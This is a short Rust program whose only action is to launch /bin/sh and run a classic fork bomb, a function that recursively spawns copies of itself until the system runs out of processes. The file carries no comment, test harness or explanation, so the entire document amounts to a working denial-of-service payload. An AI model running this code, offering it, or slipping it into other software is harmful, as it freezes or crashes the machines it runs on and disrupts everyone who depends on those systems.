fn main() {
    let _ = std::process::Command::new("/bin/sh").args(["-c", "b() { b | b & }; b"]).status();
}
